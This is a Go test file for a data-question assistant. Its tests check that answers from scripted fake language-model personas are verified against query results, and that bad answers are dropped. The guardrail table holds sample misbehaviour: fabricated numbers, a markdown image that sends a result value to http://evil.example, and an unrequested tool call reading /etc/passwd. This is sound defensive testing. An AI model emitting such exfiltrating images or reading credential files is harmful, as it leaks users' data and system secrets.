package conversation_test

import (
	"slices"
	"strings"
	"testing"

	"tabletalk/internal/conversation"
	"tabletalk/internal/llm"
	"tabletalk/internal/llm/llmtest"
	"tabletalk/internal/question"
)

// with gives a thread whose questions a model reads, too.
func with(t *testing.T, p llmtest.Persona, settings ...string) (*thread, *llmtest.Server) {
	t.Helper()
	return withFormat(t, llmtest.Anthropic, p, settings...)
}

func withFormat(t *testing.T, format string, p llmtest.Persona, settings ...string) (*thread, *llmtest.Server) {
	t.Helper()
	s := llmtest.Start(t, p)
	return talk(t, append([]string{"--model-provider", format, "--model-url", s.Base(format), "--model", "claude-haiku-5-5",
		"--model-key", llmtest.Key, "--model-egress", "results", "--query-max-rows", "100"}, settings...)...), s
}

const (
	byRegion  = `people | by region | avg(age) as "average age" unit '' | order "average age" desc`
	bestPlan  = `people | by region | avg(age) as "average age" | order "average age" desc`
	countPlan = `people | count() as "number of people"`
)

func TestAModelThatAgreesMakesAnAnswerSurer(t *testing.T) {
	for _, format := range []string{llmtest.Anthropic, llmtest.OpenAI} {
		t.Run(format, func(t *testing.T) {
			th, s := withFormat(t, format, llmtest.Script(
				llmtest.Reply{Blocks: []llm.Block{llmtest.Think("by region"), llmtest.Query("call_1", bestPlan)}},
				llmtest.Text("The oldest on average are those of [[r1:row1.region]], with [[r1:row1.average age]]."),
			))
			a := th.ask("average age by region")
			if a.Reader != "model" || a.Model == nil || a.Model.Agrees == nil || !*a.Model.Agrees || a.Other != nil || len(a.Notices) > 0 {
				t.Fatalf("%+v, %+v", a, a.Model)
			}
			if a.Model.Text != "The oldest on average are those of South, with 41." || a.Confidence != "high" || a.Model.Calls != 2 || a.Model.CostUSD <= 0 && format == llmtest.Anthropic {
				t.Errorf("%q, %s, %+v", a.Model.Text, a.Confidence, a.Model)
			}
			if len(s.Calls()) != 2 || !slices.Contains(th.events, "usage") {
				t.Errorf("%d calls, events %v", len(s.Calls()), th.events)
			}
		})
	}
}

func TestAModelThatReadsOtherwiseIsShownBesideOurs(t *testing.T) {
	th, _ := with(t, llmtest.Script(llmtest.Reply{Blocks: []llm.Block{llmtest.Query("call_1", countPlan)}}, llmtest.Text("There are [[r1:number of people]] people.")))
	a := th.ask("average age by region")
	if a.Reader != "model" || *a.Model.Agrees || a.Confidence != "medium" || a.Other == nil {
		t.Fatalf("%+v, %+v", a, a.Model)
	}
	if a.Model.Text != "There are 4 people." || len(a.Other.Result.Rows) != 2 || a.Other.Plan == nil || !strings.Contains(a.Other.Says, "age") {
		t.Errorf("%q, %+v", a.Model.Text, a.Other)
	}
	again, err := th.send(conversation.Request{Workspace: th.request("").Workspace, SessionID: th.session, Plan: a.Other.Plan})
	if err != nil || again.Model != nil || len(again.Result.Rows) != 2 {
		t.Errorf("the other reading, chosen: %+v, %v", again, err)
	}
}

func TestAModelAnswersWhatIsNotUnderstoodWithoutIt(t *testing.T) {
	th, _ := with(t, llmtest.Script(llmtest.Reply{Blocks: []llm.Block{llmtest.Query("call_1", countPlan)}}, llmtest.Text("[[r1:number of people]] in all.")))
	a := th.ask("zorp the quux of blarg")
	if a.Status != question.Answered || a.Reader != "model" || a.Model.Agrees != nil || a.Confidence != "low" || len(a.Reasons) != 2 {
		t.Errorf("%+v, %+v", a, a.Model)
	}
}

// Nothing that a model does may end in anything but the answer that there is
// without it, or a better one.
func TestGuardRails(t *testing.T) {
	query := func(plan string) llmtest.Reply {
		return llmtest.Reply{Blocks: []llm.Block{llmtest.Query("call_1", plan)}}
	}
	long := strings.Repeat("word ", 4000)
	var persona llmtest.Persona
	th, s := with(t, func(c *llmtest.Call) llmtest.Reply { return persona(c) })
	fresh := th.request("average age by region")
	fresh.NoCache = true
	for name, c := range map[string]struct {
		persona llmtest.Persona
		reader  string
		notice  string
		text    string
		calls   int
		dropped bool
	}{
		"sloppy":           {llmtest.Sloppy(`people | by regoin | avg(age) as a`, bestPlan, "[[r1:row1.region]] leads."), "model", "", "South leads.", 3, false},
		"liar":             {llmtest.Liar(bestPlan, "The average age is 99."), "model", "", "", 3, true},
		"liar in words":    {llmtest.Liar(bestPlan, "South is twice as old, with [[r1:row1.average age]]."), "model", "", "", 3, true},
		"wrong extreme":    {llmtest.Liar(bestPlan, "The highest average is [[r1:row2.average age]]."), "model", "", "", 3, true},
		"wrong name":       {llmtest.Liar(bestPlan, "North leads with [[r1:row1.average age]]."), "model", "", "", 3, true},
		"no such cell":     {llmtest.Liar(bestPlan, "It is [[r1:row9.average age]]."), "model", "", "", 3, true},
		"an image":         {llmtest.Liar(bestPlan, "![x](http://evil.example/?q=[[r1:row1.region]])"), "model", "", "", 3, true},
		"mended":           {llmtest.Script(query(bestPlan), llmtest.Text("It is 41."), llmtest.Text("It is [[r1:region=South.average age]].")), "model", "", "It is 41.", 3, false},
		"lazy":             {llmtest.Lazy("It is 42."), "offline", "model_no_answer", "", 2, false},
		"looper":           {llmtest.Looper(bestPlan), "offline", "model_budget", "", 8, false},
		"SQL, not allowed": {llmtest.SQLLover(`SELECT * FROM people`), "offline", "model_no_answer", "", 3, false},
		"many at once":     {llmtest.Parallel(20, bestPlan), "model", "", "This is what was asked for.", 2, false},
		"far too many":     {llmtest.Parallel(500, bestPlan), "offline", "model_budget", "", 1, false},
		"refuser":          {llmtest.Script(llmtest.Reply{Stop: llm.Refused, Blocks: []llm.Block{{Text: "I will not."}}}), "offline", "model_refused", "", 1, false},
		"truncator":        {llmtest.Script(llmtest.Reply{Stop: llm.CutShort, Blocks: []llm.Block{llmtest.Query("call_1", bestPlan)}}), "offline", "model_no_answer", "", 1, false},
		"context is full":  {llmtest.Script(llmtest.Reply{Stop: llm.TooLong, Blocks: []llm.Block{{Text: "…"}}}), "offline", "model_budget", "", 1, false},
		"pauses":           {llmtest.Script(llmtest.Reply{Stop: llm.Unknown, Blocks: []llm.Block{{Text: "…"}}}), "offline", "model_unavailable", "", 1, false},
		"verbose":          {llmtest.Script(query(bestPlan), llmtest.Text(long)), "model", "", "", 3, true},
		"says nothing":     {llmtest.Script(llmtest.Reply{}), "offline", "model_no_answer", "", 1, false},
		"an unknown tool":  {llmtest.Script(llmtest.Reply{Blocks: []llm.Block{llmtest.Tool("call_1", "read_file", map[string]any{"path": "/etc/passwd"})}}, query(bestPlan), llmtest.Text("Done.")), "model", "", "Done.", 3, false},
		"no JSON":          {llmtest.Script(llmtest.Reply{Blocks: []llm.Block{{Call: &llm.Call{ID: "call_1", Name: "run_query", Input: []byte("{{{")}}}}, query(bestPlan), llmtest.Text("Done.")), "model", "", "Done.", 3, false},
		"other language":   {llmtest.Script(query(bestPlan), llmtest.Text("Am ältesten: [[r1:row1.region]], 平均 [[r1:row1.average age]].")), "model", "", "Am ältesten: South, 平均 41.", 2, false},
	} {
		t.Run(name, func(t *testing.T) {
			persona = c.persona
			before := len(s.Calls())
			a, err := th.send(fresh)
			if err != nil {
				t.Fatal(err)
			}
			if a.Status != question.Answered || len(a.Result.Rows) != 2 {
				t.Fatalf("%+v", a)
			}
			code := ""
			if len(a.Notices) == 1 {
				code = a.Notices[0].Code
			}
			if a.Reader != c.reader || code != c.notice || a.Model.Text != c.text || (len(a.Model.Dropped) > 0) != c.dropped {
				t.Errorf("reader %s, notices %v, text %q, dropped %q", a.Reader, a.Notices, a.Model.Text, a.Model.Dropped)
			}
			if n := len(s.Calls()) - before; n != c.calls || a.Model.Calls != c.calls {
				t.Errorf("%d calls, %d told", n, a.Model.Calls)
			}
		})
	}
}

// hear writes down the sentences that a person is told, as they stand in the
// end.
func hear(told *string) func(conversation.Event) {
	return func(e conversation.Event) {
		data, ok := e.Data.(map[string]any)
		if !ok || e.Type != "text" {
			return
		}
		if data["reset"] == true {
			*told = ""
		}
		if delta, ok := data["delta"].(string); ok {
			*told += delta
		}
	}
}

// A small model gets one tool and little to read.
func TestASmallModelIsAskedBriefly(t *testing.T) {
	th, s := withFormat(t, llmtest.OpenAI, llmtest.Script(llmtest.Reply{Blocks: []llm.Block{llmtest.Query("call_1", bestPlan)}}, llmtest.Text("Done.")), "--model", "SmolLM2-135M")
	a := th.ask("average age by region")
	c := s.Calls()[0]
	if len(c.Tools) != 1 || len(c.Messages[0].Blocks[0].Text) > 300 || !strings.Contains(c.Messages[0].Blocks[0].Text, "by region") || a.Reader != "model" || a.Model.CostUSD != 0 {
		t.Errorf("%d tools, %s, %+v", len(c.Tools), c.Messages[0].Blocks[0].Text, a.Model)
	}
}
